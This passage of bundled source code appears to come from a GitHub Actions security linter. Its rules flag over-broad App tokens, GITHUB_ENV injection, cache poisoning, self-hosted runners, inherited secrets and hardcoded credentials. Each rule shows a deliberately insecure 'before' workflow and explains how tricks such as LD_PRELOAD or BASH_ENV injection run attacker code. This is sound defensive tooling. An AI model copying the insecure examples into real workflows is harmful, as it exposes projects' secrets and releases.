                : `Update ${label(update)} waits ${days} day${days === 1 ? '' : 's'} (cooldown ${key}), less than ${minimum}. Raise it to ${minimum} or more.`));
        }
    }
    return findings;
}
function auditDependabotExecution(dep) {
    const findings = [];
    for (const update of dep.updates) {
        const node = update.node.get('insecure-external-code-execution', true);
        if (!(0,dist/* isScalar */.jn)(node) || String(node.value).toLowerCase() !== 'allow')
            continue;
        findings.push(dependabot_finding(dep, dependabotExecutionRule, dep.positionOf(node), `Update ${label(update)} lets Dependabot run code from the dependencies it resolves (insecure-external-code-execution: allow). Remove it or set it to deny.`));
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/github-app.ts

const githubAppRule = rule({
    id: 'github-app',
    // A warning (the job may need some of it), but what leaks is a token with all of an app's rights: high, not medium.
    securitySeverity: 7.0,
    title: 'A GitHub App token gets more than the job needs',
    severity: 'warning',
    why: 'actions/create-github-app-token issues an installation token of a GitHub App. Without a `permission-<name>` input the ' +
        'token carries every permission the installation was granted, often far more than the step uses (contents: write, ' +
        'workflows, administration); with `owner:` and no `repositories:` it reaches every repository of that installation, not ' +
        'just this one (unless it only asks for organization permissions); `skip-token-revoke: true` leaves it valid for up to ' +
        'an hour after the job instead of revoking it when the job ends. Whoever gets the token (a compromised step, a log) gets all of that.',
    fix: 'Name the permissions the step needs (`permission-contents: read`, `permission-pull-requests: write`), list the ' +
        '`repositories:` next to `owner:`, and remove `skip-token-revoke`.',
    before: [
        'on: pull_request_target',
        'jobs:',
        '  label:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/create-github-app-token@v2',
        '        id: app',
        '        with:',
        '          app-id: ${{ vars.APP_ID }}',
        '          private-key: ${{ secrets.APP_KEY }}',
        '      - run: gh pr edit "$PR" --add-label triage',
        '        env:',
        '          GH_TOKEN: ${{ steps.app.outputs.token }}',
        '          PR: ${{ github.event.pull_request.html_url }}',
    ].join('\n'),
    after: [
        'on: pull_request_target',
        'jobs:',
        '  label:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/create-github-app-token@v2',
        '        id: app',
        '        with:',
        '          app-id: ${{ vars.APP_ID }}',
        '          private-key: ${{ secrets.APP_KEY }}',
        '          permission-pull-requests: write',
        '      - run: gh pr edit "$PR" --add-label triage',
        '        env:',
        '          GH_TOKEN: ${{ steps.app.outputs.token }}',
        '          PR: ${{ github.event.pull_request.html_url }}',
    ].join('\n'),
});
/**
 * Permissions of organization resources only (from create-github-app-token's action.yml): a token
 * limited to these needs no `repositories:`, since it acts on no repository.
 */
const ORGANIZATION_PERMISSIONS = new Set([
    'permission-members',
    'permission-custom-properties-for-organizations',
    'permission-enterprise-custom-properties-for-organizations',
    'permission-organization-administration',
    'permission-organization-announcement-banners',
    'permission-organization-copilot-seat-management',
    'permission-organization-custom-org-roles',
    'permission-organization-custom-properties',
    'permission-organization-custom-roles',
    'permission-organization-events',
    'permission-organization-hooks',
    'permission-organization-packages',
    'permission-organization-personal-access-token-requests',
    'permission-organization-personal-access-tokens',
    'permission-organization-plan',
    'permission-organization-projects',
    'permission-organization-secrets',
    'permission-organization-self-hosted-runners',
    'permission-organization-user-blocking',
]);
function auditGithubApp(wf) {
    const findings = [];
    for (const job of wf.jobs) {
        for (const step of job.steps) {
            if (!stepUses(step, 'actions/create-github-app-token'))
                continue;
            const names = [...step.with.keys()].map((name) => name.toLowerCase());
            const permissions = names.filter((name) => name.startsWith('permission-'));
            if (!permissions.length)
                findings.push(at(wf, githubAppRule, step.uses, 'The app token is created without a permission-<name> input, so it carries every permission of the app installation. Name the permissions the job needs (permission-contents: read, ...).', { job, step }));
            const owner = step.with.get('owner');
            const organizationOnly = permissions.length > 0 && permissions.every((name) => ORGANIZATION_PERMISSIONS.has(name));
            if (owner && !names.includes('repositories') && !organizationOnly)
                findings.push(at(wf, githubAppRule, owner, `owner: without repositories: gives the token access to every repository of ${owner.value || 'the owner'}'s app installation. List the repositories it needs (repositories: repo1,repo2).`, { job, step }));
            const skip = step.with.get('skip-token-revoke');
            const skipValue = skip?.value.trim().toLowerCase();
            if (skip && (skipValue === 'true' || skipValue?.includes('${{')))
                findings.push(at(wf, githubAppRule, skip, `skip-token-revoke: ${skip.value.trim()} keeps the token valid after the job ends (up to an hour). Remove it so the token is revoked when the job is done.`, { job, step }));
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/environment.ts



const githubEnvRule = rule({
    id: 'github-env',
    title: 'GITHUB_ENV or GITHUB_PATH written in a privileged workflow for outsiders',
    severity: 'warning',
    why: 'Lines written to the GITHUB_ENV file become environment variables of every later step, and GITHUB_PATH entries come ' +
        'first in their PATH. In a pull_request_target or workflow_run workflow, a value that derives from the pull request ' +
        '(an artifact, a branch name, a file of its checkout) can set `LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV`, or put its own ' +
        "`git` first in PATH, and so run code with the workflow's secrets. An error when the job also runs the pull request's code.",
    fix: 'Pass values between steps as step outputs (`$GITHUB_OUTPUT`) read through `${{ steps.<id>.outputs.<name> }}` into ' +
        '`env:`, or keep them in the one step that needs them.',
    before: [
        'on: workflow_run',
        'jobs:',
        '  comment:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: echo "PR_TITLE=$(cat title.txt)" >> "$GITHUB_ENV"',
    ].join('\n'),
    after: [
        'on: workflow_run',
        'jobs:',
        '  comment:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - id: pr',
        '        run: echo "title=$(cat title.txt)" >> "$GITHUB_OUTPUT"',
    ].join('\n'),
});
const insecureCommandsRule = rule({
    id: 'insecure-commands',
    title: 'The deprecated set-env / add-path workflow commands are enabled',
    severity: 'error',
    why: '`ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables `::set-env::` and `::add-path::`, which GitHub disabled because anything a ' +
        'step prints (a test name, a log line, a pull request title) can then set environment variables and PATH for the rest ' +
        'of the job, and so run code.',
    fix: 'Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to the GITHUB_ENV and GITHUB_PATH files instead.',
    before: ['env:', '  ACTIONS_ALLOW_UNSECURE_COMMANDS: true'].join('\n'),
    after: ['steps:', '  - run: echo "VERSION=1.2.3" >> "$GITHUB_ENV"'].join('\n'),
});
const TARGET = /\bGITHUB_(ENV|PATH)\b/;
/** Offsets in a shell script where it writes to the GITHUB_ENV or GITHUB_PATH file. */
function shellWrites(script, posix) {
    const parsed = (0,src/* parseShell */.aV)(script, { posix });
    if (!parsed.ok)
        return undefined;
    const out = [];
    const seen = new Set();
    for (const command of parsed.commands) {
        // A block's redirect (`{ echo A=1; echo B=2; } >> "$GITHUB_ENV"`) is on every command inside it:
        // reported once, at the file name.
        for (const redirect of (0,src/* writeRedirects */.JA)(command)) {
            const match = TARGET.exec(redirect.target.raw);
            const offset = redirect.target.offset + (match?.index ?? 0);
            if (match && !seen.has(offset)) {
                seen.add(offset);
                out.push({ offset, file: `GITHUB_${match[1]}` });
            }
        }
        const name = command.argv[0]?.literal;
        if (name === 'tee') {
            for (const word of command.argv.slice(1)) {
                const match = TARGET.exec(word.raw);
                if (match)
                    out.push({ offset: word.offset + match.index, file: `GITHUB_${match[1]}` });
            }
        }
    }
    return out;
}
/** Offsets where a script of any language names GITHUB_ENV / GITHUB_PATH as something it writes to. */
function textWrites(script) {
    const out = [];
    // PowerShell (`>> $env:GITHUB_ENV`, `Out-File ... $env:GITHUB_ENV`, `Add-Content $env:GITHUB_PATH`), cmd (`>> %GITHUB_ENV%`),
    // Python / Node (`open(os.environ["GITHUB_ENV"], "a")`, `appendFileSync(process.env.GITHUB_ENV, ...)`).
    const pattern = /(?:>>?\s*|Out-File\b[^\n]*?|Add-Content\b[^\n]*?|Set-Content\b[^\n]*?|open\([^\n]*?|appendFileSync\([^\n]*?|writeFileSync\([^\n]*?)(?:\$env:|%|\$\{?|os\.environ\[["']|os\.getenv\(["']|process\.env\.)GITHUB_(ENV|PATH)\b/g;
    for (const match of script.matchAll(pattern)) {
        const offset = match.index + match[0].lastIndexOf('GITHUB_');
        out.push({ offset, file: `GITHUB_${match[1]}` });
    }
    return out;
}
function writesOf(wf, job, step) {
    const out = [];
    const run = step.run;
    if (run) {
        const shell = ((0,src/* effectiveShell */.oL)(wf, job, step) ?? 'bash').toLowerCase();
        const isShell = shell === 'bash' || shell === 'sh' || shell.startsWith('bash ') || shell.startsWith('sh ');
        const writes = (isShell ? shellWrites(run.text, shell.startsWith('sh')) : undefined) ?? textWrites(run.text);
        for (const write of writes)
            out.push({ script: run, ...write });
    }
    return out;
}
function scriptExports(wf, step) {
    if (!stepUses(step, 'actions/github-script'))
        return [];
    const script = (0,src/* withScript */._L)(wf, step, 'script');
    if (!script)
        return [];
    const out = [];
    for (const match of script.text.matchAll(/\bcore\.(exportVariable|addPath)\s*\(/g)) {
        out.push({ script, offset: match.index, file: match[1] === 'addPath' ? 'GITHUB_PATH' : 'GITHUB_ENV' });
    }
    for (const write of textWrites(script.text))
        out.push({ script, ...write });
    return out;
}
function auditGithubEnv(wf) {
    const privileged = wf.triggers.filter((t) => PRIVILEGED_PR_TRIGGERS.has(t.name)).map((t) => t.name);
    if (!privileged.length)
        return [];
    const findings = [];
    for (const job of wf.jobs) {
        const runsPrCode = job.steps.some((step) => prCodeCheckout(step));
        for (const step of job.steps) {
            for (const write of [...writesOf(wf, job, step), ...scriptExports(wf, step)]) {
                const position = write.script.offsetToPosition(write.offset);
                const base = at(wf, githubEnvRule, position, `This ${privileged.join(' / ')} workflow writes to ${write.file}${runsPrCode ? ` in job ${job.id}, which runs the pull request's code` : ''}: ` +
                    'a value derived from the pull request can set variables (or PATH entries) that run code in later steps. Use step outputs instead.', { job, step });
                findings.push(runsPrCode ? { ...base, severity: 'error' } : base);
            }
        }
    }
    return findings;
}
function enabled(value) {
    const v = value.trim().toLowerCase();
    return v !== '' && v !== 'false' && v !== '0';
}
function auditInsecureCommands(wf) {
    const findings = [];
    const NAME = 'ACTIONS_ALLOW_UNSECURE_COMMANDS';
    const check = (env, where) => {
        for (const kv of env) {
            if (kv.name === NAME && enabled(kv.value.value)) {
                findings.push(at(wf, insecureCommandsRule, kv.key, `${NAME} re-enables ::set-env:: and ::add-path::: any output of the job can then set variables and PATH. Remove it.`, where));
            }
        }
    };
    check(wf.env, {});
    for (const job of wf.jobs) {
        check(job.env, { job });
        for (const step of job.steps) {
            check(step.env, { job, step });
            if (step.run) {
                for (const match of step.run.text.matchAll(/\bACTIONS_ALLOW_UNSECURE_COMMANDS\s*=\s*["']?true/gi)) {
                    findings.push(at(wf, insecureCommandsRule, step.run.offsetToPosition(match.index), `The script sets ${NAME}=true, re-enabling ::set-env:: and ::add-path:: for later steps. Remove it.`, { job, step }));
                }
            }
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/misfeature.ts

const misfeatureRule = rule({
    id: 'misfeature',
    title: 'A feature that defeats review is used',
    severity: 'note',
    why: '`shell: cmd` runs the script with Windows CMD, which has no grammar a tool (or a reviewer) can follow: `^` escapes, `%` ' +
        'expansion before parsing, `&` and `|` anywhere, several line continuations. Injection and secret-handling checks cannot ' +
        'read such a script, and CMD has not been the default Windows shell since 2019. The `pip-install` input of ' +
        'actions/setup-python installs packages into the global interpreter, where what gets installed depends on the runner ' +
        'image and is hard to audit.',
    fix: 'Use `shell: pwsh` (the Windows default) or `shell: bash`, and pass values through `env:`. Instead of `pip-install:`, ' +
        'create a virtual environment in a `run:` step and install into it (`python -m venv .venv && .venv/bin/pip install ...`).',
    before: [
        'on: push',
        'jobs:',
        '  build:',
        '    runs-on: windows-latest',
        '    steps:',
        '      - shell: cmd',
        '        run: build.bat',
    ].join('\n'),
    after: [
        'on: push',
        'jobs:',
        '  build:',
        '    runs-on: windows-latest',
        '    steps:',
        '      - shell: pwsh',
        '        run: ./build.ps1',
    ].join('\n'),
});
/** True for `cmd`, `cmd.exe` and a path to it, with or without arguments (`cmd /D /E:ON ... {0}`). */
function isCmd(shell) {
    const program = shell.trim().split(/\s+/)[0] ?? '';
    const base = program.split(/[\\/]/).pop().toLowerCase();
    return base === 'cmd' || base === 'cmd.exe';
}
function auditMisfeature(wf) {
    const findings = [];
    // A `defaults.run.shell: cmd` is reported once, where it is written, with the steps that fall back to it.
    const fallbacks = new Map();
    for (const job of wf.jobs) {
        for (const step of job.steps) {
            if (step.run) {
                const own = step.shell;
                const shell = own ?? job.defaults?.shell ?? wf.defaults?.shell;
                if (!shell || !isCmd(shell.value))
                    continue;
                if (own) {
                    findings.push(at(wf, misfeatureRule, own, `This step runs with the Windows CMD shell (shell: ${own.value}), which checks and reviewers cannot read reliably. Use shell: pwsh or shell: bash.`, { job, step }));
                }
                else {
                    const entry = fallbacks.get(shell) ?? { ...(shell === job.defaults?.shell ? { job: job.id } : {}), steps: 0 };
                    entry.steps++;
                    fallbacks.set(shell, entry);
                }
            }
            const pip = stepUses(step, 'actions/setup-python') ? step.with.get('pip-install') : undefined;
            if (pip) {
                findings.push(at(wf, misfeatureRule, pip, 'pip-install installs packages into the global Python of the runner. Create a virtual environment in a run: step and install into it.', { job, step }));
            }
        }
    }
    for (const [shell, { job, steps }] of fallbacks) {
        const scope = job ? `Job ${job}'s` : "The workflow's";
        findings.push({
            ...at(wf, misfeatureRule, shell, `${scope} default shell is the Windows CMD shell (shell: ${shell.value}), used by ${steps} run step${steps === 1 ? '' : 's'}; checks and reviewers cannot read CMD scripts reliably. Use shell: pwsh or shell: bash.`),
            ...(job ? { job } : {}),
        });
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/runners.ts

const cachePoisoningRule = rule({
    id: 'cache-poisoning',
    title: 'A release workflow restores a cache',
    severity: 'warning',
    why: 'Caches are shared across the workflows of a repository: one written by any run on the default branch (or by a job ' +
        'that ran code from a pull request with access to the cache) is restored as-is by the release build. Whoever can write ' +
        'that cache can then put their code into the artifacts you sign and publish. Several actions cache without being asked: ' +
        'actions/setup-go from v4, actions/setup-node from v5 (`package-manager-cache`, when package.json names npm), ' +
        'astral-sh/setup-uv from v5 (`enable-cache: auto`; from v10 not on tag pushes or release events), ramsey/composer-install, ' +
        "oven-sh/setup-bun, gradle/actions/setup-gradle, jdx/mise-action; the version comes from the ref or a SHA pin's `# vX` comment.",
    fix: 'Do not restore caches in workflows that publish: remove `actions/cache` and set `cache: false` (or remove `cache:`) ' +
        'on setup-* actions there; turn the defaults off (`package-manager-cache: false`, `enable-cache: false`, `ignore-cache: yes`, ' +
        '`no-cache: true`, `cache-disabled: true`). A clean build costs minutes; a poisoned release costs the project.',
    before: [
        'on:',
        '  push:',
        '    tags: [v*]',
        'jobs:',
        '  publish:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/setup-node@v4',
        '        with:',
        '          cache: npm',
        '      - run: npm publish',
    ].join('\n'),
    after: [
        'on:',
        '  push:',
        '    tags: [v*]',
        'jobs:',
        '  publish:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - uses: actions/setup-node@v4',
        '      - run: npm publish',
    ].join('\n'),
});
const selfHostedRunnerRule = rule({
    id: 'self-hosted-runner',
    title: 'A self-hosted runner runs pull request workflows',
    severity: 'note',
    why: 'A job triggered by a pull request runs code its author controls. On a self-hosted runner that code runs on your ' +
        'machine, in your network, and, unless the runner is ephemeral, can persist there to attack later jobs and their secrets.',
    fix: 'Run pull request jobs on GitHub-hosted runners, or on ephemeral, isolated self-hosted runners (just-in-time runners, ' +
        'actions-runner-controller) with no access to other jobs or internal networks; require approval for outside contributors.',
    before: ['on: pull_request', 'jobs:', '  test:', '    runs-on: [self-hosted, linux]'].join('\n'),
    after: ['on: pull_request', 'jobs:', '  test:', '    runs-on: ubuntu-latest'].join('\n'),
});
function input(context, name) {
    return context.inputs.get(name)?.value.trim().toLowerCase();
}
const runners_isTrue = (value) => value === 'true';
/** Caching turned on by an input naming what to cache (`cache: npm`); off when absent, empty or false. */
function optIn(name) {
    return (context) => {
        const value = input(context, name);
        return value === undefined || value === '' || value === 'false' ? undefined : `with ${name}: ${value}`;
    };
}
/** Caching on unless a boolean input turns it off (`cache: false`). An unknown version counts as a caching one. */
function onUnless(name, off, since) {
    return (context) => {
        const value = input(context, name);
        if (value !== undefined)
            return off(value) ? undefined : `with ${name}: ${value}`;
        if (since !== undefined && context.major !== undefined && context.major < since)
            return undefined;
        return `(caches by default; ${name} is not set)`;
    };
}
/** setup-uv's `enable-cache` (facts from astral-sh/setup-uv's action.yml and src/utils/inputs.ts). */
const setupUv = (context) => {
    const value = input(context, 'enable-cache');
    if (value === 'true')
        return 'with enable-cache: true';
    if (value !== undefined && value !== 'auto')
        return undefined;
    // v1-v4 defaulted to false; from v5 `auto` caches on GitHub-hosted runners.
    if (context.major !== undefined && context.major < 5)
        return undefined;
    if (context.job?.runsOn.some((label) => label.toLowerCase() === 'self-hosted'))
        return undefined;
    // From v10 `auto` skips tag pushes and release, pull_request_target and workflow_run events.
    if (context.major === undefined || context.major >= 10) {
        const other = context.wf.triggers.find((trigger) => !UV_UNCACHED_EVENTS.has(trigger.name) && !tagPushOnly(trigger));
        if (!other)
            return undefined;
        return `(enable-cache defaults to auto, which caches on ${other.name} events)`;
    }
    return '(enable-cache defaults to auto, which caches on GitHub-hosted runners)';
};
const UV_UNCACHED_EVENTS = new Set(['release', 'pull_request_target', 'workflow_run']);
/** True for a `push:` trigger that only runs on tags. */
function tagPushOnly(trigger) {
    if (trigger.name !== 'push')
        return false;
    const filters = trigger.filters;
    if (!filters || typeof filters !== 'object')
        return false;
    const hasTags = filters.tags !== undefined || filters['tags-ignore'] !== undefined;
    return hasTags && filters.branches === undefined && filters['branches-ignore'] === undefined;
}
/**
 * setup-node: `cache: npm|yarn|pnpm`, and from v5 `package-manager-cache` (default true), which caches
 * when package.json's `packageManager` (v6: or `devEngines.packageManager`) names npm (v5: npm, yarn
 * or pnpm). The workflow does not show package.json, so an unset input on v5+ is reported.
 */
const setupNode = (context) => {
    const cache = optIn('cache')(context);
    if (cache)
        return cache;
    if (input(context, 'cache') !== undefined && input(context, 'cache') !== '')
        return undefined;
    if (context.major !== undefined && context.major < 5)
        return undefined;
    const value = input(context, 'package-manager-cache');
    if (value !== undefined)
        return value === 'false' ? undefined : `with package-manager-cache: ${value}`;
    return "(package-manager-cache defaults to true: it caches when package.json's packageManager names npm)";
};
/** Actions that restore a cache, by `uses` name (lower-case), with the inputs that decide it. */
const CACHE_ACTIONS = {
    // `lookup-only: true` only checks that an entry exists; nothing is restored.
    'actions/cache': onUnless('lookup-only', runners_isTrue),
    'actions/cache/restore': onUnless('lookup-only', runners_isTrue),
    'swatinem/rust-cache': onUnless('lookup-only', runners_isTrue),
    'actions/setup-node': setupNode,
    'actions/setup-python': optIn('cache'),
    'actions/setup-java': optIn('cache'),
    'actions/setup-dotnet': optIn('cache'),
    'graalvm/setup-graalvm': optIn('cache'),
    // `cache` defaults to true since v4.
    'actions/setup-go': onUnless('cache', (v) => v === 'false', 4),
    'astral-sh/setup-uv': setupUv,
    // setup-bun caches the bun executable unless `no-cache: true`.
    'oven-sh/setup-bun': onUnless('no-cache', runners_isTrue),
    'pnpm/action-setup': optIn('cache'),
    'ruby/setup-ruby': optIn('bundler-cache'),
    // Restores with actions/cache unless `ignore-cache` is yes, true or 1.
    'ramsey/composer-install': onUnless('ignore-cache', (v) => ['yes', 'true', '1'].includes(v)),
    // `sccache: true` turns on sccache with the GitHub Actions cache (SCCACHE_GHA_ENABLED).
    'pyo3/maturin-action': (context) => (runners_isTrue(input(context, 'sccache')) ? 'with sccache: true' : undefined),
    'gradle/actions/setup-gradle': (context) => runners_isTrue(input(context, 'cache-disabled')) || runners_isTrue(input(context, 'cache-write-only'))
        ? undefined
        : '(caches by default; cache-disabled is not set)',
    'actions-rust-lang/setup-rust-toolchain': onUnless('cache', (v) => v === 'false'),
    'jdx/mise-action': onUnless('cache', (v) => v === 'false'),
    'mozilla-actions/sccache-action': () => '',
};
const PUBLISHING_ACTIONS = new Set([
    'softprops/action-gh-release',
    'ncipollo/release-action',
    'pypa/gh-action-pypi-publish',
    'goreleaser/goreleaser-action',
    'js-devtools/npm-publish',
    'changesets/action',
    'googleapis/release-please-action',
    'google-github-actions/release-please-action',
    'actions/attest-build-provenance',
    'actions/attest',
    'slsa-framework/slsa-github-generator',
    'sigstore/cosign-installer',
]);
const PUBLISHING_COMMANDS = /\b(?:npm|pnpm|yarn)\s+publish\b|\bcargo\s+publish\b|\btwine\s+upload\b|\bgh\s+release\s+(?:create|upload)\b|\bgoreleaser\s+release\b|\bdocker\s+push\b|\bpoetry\s+publish\b|\buv\s+publish\b|\bgem\s+push\b|\bmvn\b[^\n]*\bdeploy\b/;
/** Why the workflow counts as a release workflow, or undefined. */
function releaseReason(wf) {
    for (const trigger of wf.triggers) {
        if (trigger.name === 'release')
            return 'it runs on release events';
        if (trigger.name === 'push') {
            const filters = trigger.filters;
            if (filters && typeof filters === 'object' && filters.tags !== undefined)
                return 'it runs on tag pushes';
        }
    }
    for (const job of wf.jobs) {
        for (const step of job.steps) {
            if (step.uses && PUBLISHING_ACTIONS.has(parseUses(step.uses.value).name))
                return `job ${job.id} publishes with ${parseUses(step.uses.value).name}`;
            if (stepUses(step, 'docker/build-push-action') && step.with.get('push')?.value.trim() === 'true')
                return `job ${job.id} pushes an image`;
            const match = step.run ? PUBLISHING_COMMANDS.exec(step.run.text) : null;
            if (match)
                return `job ${job.id} runs ${match[0].replace(/\s+/g, ' ')}`;
        }
    }
    return undefined;
}
/** How a step restores a cache, or undefined. The workflow and job, when given, refine defaults that depend on them. */
function restoresCache(step, wf, job) {
    if (!step.uses)
        return undefined;
    const uses = parseUses(step.uses.value);
    if (uses.kind !== 'action')
        return undefined;
    const check = CACHE_ACTIONS[uses.name];
    if (check) {
        const major = wf ? usesMajorVersion(wf, step) : majorVersion(uses.ref);
        const how = check({ inputs: step.with, major, wf: wf ?? NO_WORKFLOW, job });
        if (how === undefined)
            return undefined;
        return how ? `${uses.name} ${how}` : uses.name;
    }
    if (uses.name === 'docker/build-push-action' || uses.name === 'docker/bake-action') {
        const from = step.with.get('cache-from')?.value ?? '';
        if (/type=gha/.test(from))
            return `${uses.name} with cache-from: type=gha`;
    }
    return undefined;
}
/** Stands in for the workflow when a caller has none: no triggers, so no trigger-dependent default applies. */
const NO_WORKFLOW = { triggers: [] };
function auditCachePoisoning(wf) {
    const reason = releaseReason(wf);
    if (!reason)
        return [];
    const findings = [];
    for (const job of wf.jobs) {
        for (const step of job.steps) {
            const how = restoresCache(step, wf, job);
            if (!how)
                continue;
            findings.push(at(wf, cachePoisoningRule, step.uses, `This is a release workflow (${reason}) and the step restores a cache (${how}): a poisoned cache would go into the release. Build without caches here.`, { job, step }));
        }
    }
    return findings;
}
const PR_TRIGGERS = new Set([
    'pull_request',
    'pull_request_target',
    'pull_request_review',
    'pull_request_review_comment',
]);
function selfHosted(job) {
    if (job.runsOn.some((label) => label.toLowerCase() === 'self-hosted'))
        return true;
    // `runs-on: ${{ matrix.os }}` with a matrix listing self-hosted labels.
    if (job.runsOn.some((label) => /\bmatrix\./.test(label)) && job.matrix)
        return JSON.stringify(job.matrix.value ?? null)
            .toLowerCase()
            .includes('"self-hosted"');
    return false;
}
function auditSelfHostedRunner(wf) {
    const triggers = wf.triggers.filter((t) => PR_TRIGGERS.has(t.name)).map((t) => t.name);
    if (!triggers.length)
        return [];
    return wf.jobs
        .filter((job) => selfHosted(job))
        .map((job) => at(wf, selfHostedRunnerRule, job.runsOnPosition ?? job.position, `Job ${job.id} runs on a self-hosted runner for ${triggers.join(' / ')} events: pull request code runs on your machine. Use GitHub-hosted or ephemeral, isolated runners.`, { job }));
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/secrets.ts


const secretsInheritRule = rule({
    id: 'secrets-inherit',
    title: 'A reusable workflow receives every secret',
    severity: 'warning',
    why: '`secrets: inherit` hands the called workflow every secret of the repository and organization, now and any added ' +
        'later. A compromised or careless called workflow (or a new version of it) can then read credentials it never needed.',
    fix: 'List the secrets the called workflow needs under `secrets:`, by name.',
    before: [
        'jobs:',
        '  release:',
        '    uses: org/workflows/.github/workflows/release.yml@v1',
        '    secrets: inherit',
    ].join('\n'),
    after: [
        'jobs:',
        '  release:',
        '    uses: org/workflows/.github/workflows/release.yml@v1',
        '    secrets:',
        '      npm-token: ${{ secrets.NPM_TOKEN }}',
    ].join('\n'),
});
const hardcodedContainerCredentialsRule = rule({
    id: 'hardcoded-container-credentials',
    title: 'A container registry password is written in the workflow',
    severity: 'error',
    why: 'A password written in `container.credentials` or `services.*.credentials` is readable by anyone who can read the ' +
        'repository, stays in its history forever, and cannot be rotated without a commit.',
    fix: 'Store the password as a secret and reference it: `password: ${{ secrets.REGISTRY_PASSWORD }}`; then rotate the leaked one.',
    before: [
        'container:',
        '  image: ghcr.io/org/build:1',
        '  credentials:',
        '    username: bot',
        '    password: hunter2',
    ].join('\n'),
    after: [
        'container:',
        '  image: ghcr.io/org/build:1',
        '  credentials:',
        '    username: bot',
        '    password: ${{ secrets.REGISTRY_PASSWORD }}',
    ].join('\n'),
});
const staticCloudCredentialsRule = rule({
    id: 'static-cloud-credentials',
    title: 'Long-lived cloud keys where OIDC federation works',
    severity: 'warning',
    why: 'An AWS access key, an Azure service principal secret or a GCP service-account key stored as a secret is valid until ' +
        "someone rotates it, works from anywhere, and leaks with any step that can read the job's environment. GitHub's OIDC " +
        'token lets the cloud issue short-lived credentials to this repository, branch or environment only, with no secret to steal.',
    fix: 'AWS: aws-actions/configure-aws-credentials with `role-to-assume` (and `permissions: id-token: write`). Azure: azure/login ' +
        'with `client-id`, `tenant-id` and `subscription-id` of a federated credential. GCP: google-github-actions/auth with ' +
        '`workload_identity_provider` and `service_account`. Then delete the stored key.',
    before: [
        '- uses: aws-actions/configure-aws-credentials@v4',
        '  with:',
        '    aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}',
        '    aws-secret-access-key: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
        '    aws-region: eu-west-1',
    ].join('\n'),
    after: [
        '- uses: aws-actions/configure-aws-credentials@v4',
        '  with:',
        '    role-to-assume: arn:aws:iam::123456789012:role/deploy',
        '    aws-region: eu-west-1',
    ].join('\n'),
});
function auditSecretsInherit(wf) {
    return wf.jobs
        .filter((job) => job.secrets === 'inherit')
        .map((job) => at(wf, secretsInheritRule, job.secretsPosition ?? job.position, `Job ${job.id} passes every repository and organization secret to ${job.uses?.value ?? 'the called workflow'}. Pass only the secrets it needs, by name.`, { job }));
}
function auditContainerCredentials(wf) {
    const findings = [];
    for (const job of wf.jobs) {
        for (const container of [...(job.container ? [job.container] : []), ...job.services]) {
            const password = container.credentials?.password;
            if (!password || password.value === '' || (0,src/* findExpressions */.zV)(password.value).length)
                continue;
            const what = container.id === 'container' ? 'the job container' : `service ${container.id}`;
            findings.push(at(wf, hardcodedContainerCredentialsRule, password, `The registry password for ${what} is written in the workflow. Use a secret (\${{ secrets.… }}) and rotate this one.`, {
                job,
            }));
        }
    }
    return findings;
}
const AWS_KEY_VARIABLES = new Set(['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY']);
const AZURE_SECRET_VARIABLES = new Set(['AZURE_CLIENT_SECRET', 'ARM_CLIENT_SECRET']);
const AWS_OIDC = 'use aws-actions/configure-aws-credentials with role-to-assume and id-token: write (OIDC) instead';
const AZURE_OIDC = 'use azure/login with client-id, tenant-id and subscription-id of a federated credential (OIDC) instead';
const GCP_OIDC = 'use google-github-actions/auth with workload_identity_provider and service_account (OIDC) instead';
function fromSecret(value) {
    return contextsIn(value).some((path) => path.startsWith('secrets.') || path === 'secrets');
}
function auditStaticCloudCredentials(wf) {
    const findings = [];
    const envFinding = (kv, where) => {
        if (!fromSecret(kv.value.value))
            return;
        if (AWS_KEY_VARIABLES.has(kv.name)) {
            findings.push(at(wf, staticCloudCredentialsRule, kv.key, `${kv.name} comes from a stored secret: a long-lived AWS key; ${AWS_OIDC}.`, where));
        }
        else if (AZURE_SECRET_VARIABLES.has(kv.name)) {
            findings.push(at(wf, staticCloudCredentialsRule, kv.key, `${kv.name} comes from a stored secret: a long-lived Azure client secret; ${AZURE_OIDC}.`, where));
        }
    };
    for (const kv of wf.env)
        envFinding(kv, {});
    for (const job of wf.jobs) {
        for (const kv of job.env)
            envFinding(kv, { job });
        for (const step of job.steps) {
            for (const kv of step.env)
                envFinding(kv, { job, step });
            const input = (name) => step.with.get(name);
            if (stepUses(step, 'aws-actions/configure-aws-credentials')) {
                const key = input('aws-access-key-id') ?? input('aws-secret-access-key');
                if (key)
                    findings.push(at(wf, staticCloudCredentialsRule, key, `aws-actions/configure-aws-credentials is given a long-lived access key; ${AWS_OIDC}.`, { job, step }));
            }
            else if (stepUses(step, 'azure/login')) {
                const creds = input('creds') ?? input('client-secret');
                if (creds)
                    findings.push(at(wf, staticCloudCredentialsRule, creds, `azure/login is given a service principal secret; ${AZURE_OIDC}.`, { job, step }));
            }
            else if (stepUses(step, 'google-github-actions/auth')) {
                const key = input('credentials_json');
                if (key)
                    findings.push(at(wf, staticCloudCredentialsRule, key, `google-github-actions/auth is given a service-account key (credentials_json); ${GCP_OIDC}.`, { job, step }));
            }
        }
    }
    return findings;
}

;// CONCATENATED MODULE: ./packages/permissions/src/patterns/forbidden-uses.ts

const forbiddenUsesRule = rule({
    id: 'forbidden-uses',
    title: 'A `uses:` the policy forbids',
    severity: 'error',
    why: 'Every action and reusable workflow a job uses runs with its token and secrets, so which ones may run is a decision ' +
        'for the organization, written down once. This audit is opt-in: it runs when the policy sets ' +
